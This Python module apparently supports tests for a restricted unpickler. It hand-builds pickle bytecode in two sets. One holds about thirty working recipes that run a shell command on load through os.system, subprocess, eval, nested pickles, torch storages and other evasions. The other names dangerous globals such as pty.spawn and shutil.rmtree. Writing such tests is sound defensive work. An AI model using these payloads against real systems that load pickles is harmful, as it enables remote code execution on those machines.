"""Pickles spelled by hand: small pieces, and hostile ones that would run a shell command."""

from __future__ import annotations

import struct
from collections.abc import Callable

Recipe = Callable[[str], bytes]


def text(value: str) -> bytes:
    """Push a str."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    """Push a global."""
    return f"c{module}\n{name}\n".encode()


def stack_named(module: str, name: str) -> bytes:
    """Push a global in the way of protocol 4."""
    return text(module) + text(name) + b"\x93"


def group(*parts: bytes) -> bytes:
    """Push a tuple."""
    return b"(" + b"".join(parts) + b"t"


def call(module: str, name: str, *args: bytes) -> bytes:
    """Push what a call returns."""
    return named(module, name) + group(*args) + b"R"


def entry(key: str, value: bytes) -> bytes:
    """Push a dict of one entry."""
    return b"}" + text(key) + value + b"s"


def whole(value: bytes, protocol: int = 2) -> bytes:
    """Return the stream that describes one pushed value."""
    return b"\x80" + bytes([protocol]) + value + b"."


def binary(value: bytes) -> bytes:
    """Push a bytes object."""
    return b"B" + struct.pack("<I", len(value)) + value


def _system(command: str) -> bytes:
    return call("os", "system", text(command))


def _python(command: str) -> bytes:
    return text(f"__import__('os').system({command!r})")


LIVE: dict[str, Recipe] = {
    "os.system": _system,
    "posix.system": lambda c: call("posix", "system", text(c)),
    "subprocess.getoutput": lambda c: call("subprocess", "getoutput", text(c)),
    "subprocess.call": lambda c: call(
        "subprocess", "call", group(text("/bin/sh"), text("-c"), text(c))
    ),
    "eval": lambda c: call("builtins", "eval", _python(c)),
    "exec": lambda c: call("builtins", "exec", _python(c)),
    "eval of Python 2": lambda c: call("__builtin__", "eval", _python(c)),
    "timeit.timeit": lambda c: call(
        "timeit", "timeit", _python(c), text("0"), named("time", "time"), b"K\x01"
    ),
    "a global by the stack": lambda c: stack_named("os", "system") + group(text(c)) + b"R",
    "a dotted name": lambda c: stack_named("shutil", "os.system") + group(text(c)) + b"R",
    "INST": lambda c: b"(" + text(c) + b"ios\nsystem\n",
    "OBJ": lambda c: b"(" + named("os", "system") + text(c) + b"o",
    "a memoised global": lambda c: named("os", "system") + b"q\x070h\x07" + group(text(c)) + b"R",
    "a duplicated global": lambda c: named("os", "system") + b"2" + group(text(c)) + b"R0",
    "arguments from the memo": lambda c: (
        group(text(c)) + b"r\x00\x01\x01\x000" + named("os", "system") + b"j\x00\x01\x01\x00R"
    ),
    "in a list": lambda c: b"]" + _system(c) + b"a",
    "in a tuple in a tuple": lambda c: group(group(_system(c))),
    "as a key": lambda c: b"}" + _system(c) + b"Ns",
    "in a frozenset": lambda c: b"(" + _system(c) + b"\x91",
    "in an OrderedDict": lambda c: (
        call("collections", "OrderedDict") + text("k") + _system(c) + b"s"
    ),
    "in the arguments of an allowed call": lambda c: call(
        "builtins", "set", b"]" + _system(c) + b"a"
    ),
    "in a state": lambda c: (
        named("types", "SimpleNamespace") + b")R" + entry("a", _system(c)) + b"b"
    ),
    "in a value that is dropped": lambda c: _system(c) + b"0N",
    "in a group that is dropped": lambda c: b"(" + _system(c) + b"1N",
    "getattr": lambda c: (
        call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
        + group(text(c))
        + b"R"
    ),
    "import_module": lambda c: call("importlib", "import_module", text("os")) + b"0" + _system(c),
    "functools.partial": lambda c: (
        call("functools", "partial", named("os", "system"), text(c)) + b")R"
    ),
    "operator.methodcaller": lambda c: (
        call("operator", "methodcaller", text("system"), text(c))
        + group(call("importlib", "import_module", text("os")))
        + b"R"
    ),
    "a list made by map": lambda c: call(
        "builtins", "list", call("builtins", "map", named("os", "system"), b"]" + text(c) + b"a")
    ),
    "a pickle within a pickle": lambda c: call("pickle", "loads", binary(whole(_system(c)))),
    "a storage that is a pickle": lambda c: call(
        "torch.storage", "_load_from_bytes", binary(whole(_system(c)))
    ),
    "copyreg.__newobj__": lambda c: (
        call("copyreg", "__newobj__", named("builtins", "object")) + b"0" + _system(c)
    ),
}
"""Name -> what pushes a value and runs a shell command, where an ordinary unpickler reads it."""

REFUSED: dict[str, bytes] = {
    "subprocess.Popen": call("subprocess", "Popen", text("true")),
    "builtins.open": call("builtins", "open", text("/tmp/x"), text("w")),
    "builtins.compile": call("builtins", "compile", text("0"), text("f"), text("eval")),
    "importlib.reload": call("importlib", "reload", text("os")),
    "runpy.run_path": call("runpy", "run_path", text("/tmp/x")),
    "shutil.rmtree": call("shutil", "rmtree", text("/tmp/x")),
    "types.FunctionType": call("types", "FunctionType", b"N"),
    "types.CodeType": call("types", "CodeType", b"N"),
    "marshal.loads": call("marshal", "loads", binary(b"")),
    "ctypes.CDLL": call("ctypes", "CDLL", text("libc.so.6")),
    "webbrowser.open": call("webbrowser", "open", text("http://localhost")),
    "pty.spawn": call("pty", "spawn", text("/bin/sh")),
    "os._exit": call("os", "_exit", b"K\x00"),
    "sys.exit": call("sys", "exit"),
    "signal.alarm": call("signal", "alarm", b"K\x01"),
    "socket.create_connection": call("socket", "create_connection", group(text("h"), b"K\x01")),
    "urllib.request.urlretrieve": call("urllib.request", "urlretrieve", text("http://localhost")),
    "builtins.map": call("builtins", "map", named("os", "system"), b"]"),
    "builtins.type": call("builtins", "type", text("A"), b")", b"}"),
    "operator.attrgetter": call("operator", "attrgetter", text("system")),
    "torch.load": call("torch", "load", text("/tmp/x")),
    "torch.hub.load": call("torch.hub", "load", text("a/b"), text("c")),
    "torch._utils._rebuild_qtensor": call("torch._utils", "_rebuild_qtensor", b"N"),
    "torch._utils._rebuild_sparse_tensor": call("torch._utils", "_rebuild_sparse_tensor", b"N"),
    "numpy.load": call("numpy", "load", text("/tmp/x")),
    "__main__.GPT": call("__main__", "GPT", b"K\x01"),
    "__main__.Config": named("__main__", "Config") + group(b"K\x01") + b"\x81",
    "__main__.Other": named("__main__", "Other") + b")}\x92",
    "__main__.Old": b"(" + named("__main__", "Old") + b"o",
    "__main__.Older": b"(i__main__\nOlder\n",
    "extension code 1": b"\x82\x01" + b")R",
    "extension code 300": b"\x83\x2c\x01" + b")R",
    "extension code 70000": b"\x84\x70\x11\x01\x00" + b")R",
}
"""Global that the message must name -> what pushes the value."""
